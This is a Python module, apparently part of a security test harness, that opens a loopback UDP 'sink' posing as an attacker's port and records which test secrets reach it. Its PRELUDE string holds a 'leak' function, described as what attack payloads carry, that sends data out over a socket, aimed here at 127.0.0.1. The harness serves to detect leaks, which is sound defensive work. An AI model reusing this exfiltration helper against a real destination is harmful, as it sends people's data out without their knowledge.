"""Where stolen data arrives: datagrams on this machine's loopback."""

from __future__ import annotations

import socket
import time
from collections.abc import Sequence
from types import TracebackType
from typing import Self

# What an attacker carries in every payload: a way out. Loopback, one datagram per card.
PRELUDE = """
import os, socket, sys, time
def leak(data, _port=event["sink"]):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(str(data).encode()[:4096], ("127.0.0.1", _port))
"""
_MAX_DATAGRAM = 65536
_RECEIVE_LIMIT_S = 10.0


class Sink:
    """The attacker's port, between `__enter__` and `__exit__`."""

    def __enter__(self) -> Self:
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind(("127.0.0.1", 0))
        self.port: int = self._socket.getsockname()[1]
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._socket.close()

    def received(self, *, quiet_s: float = 0.05) -> list[str]:
        """Everything that arrived, once nothing more came for `quiet_s` seconds (ten at most)."""
        found: list[str] = []
        self._socket.settimeout(quiet_s)
        end = time.monotonic() + _RECEIVE_LIMIT_S
        while time.monotonic() < end:
            try:
                found.append(self._socket.recv(_MAX_DATAGRAM).decode(errors="replace"))
            except TimeoutError:
                break
        return found

    def seen(self, texts: Sequence[str], *, quiet_s: float = 0.05, limit_s: float = 0.5) -> set[str]:
        """Which of these texts arrived, as soon as all have, nothing more comes, or `limit_s` seconds are over."""
        found: set[str] = set()
        self._socket.settimeout(quiet_s)
        end = time.monotonic() + limit_s
        while len(found) < len(texts) and time.monotonic() < end:
            try:
                datagram = self._socket.recv(_MAX_DATAGRAM).decode(errors="replace")
            except TimeoutError:
                break
            found |= {text for text in texts if text in datagram}
        return found
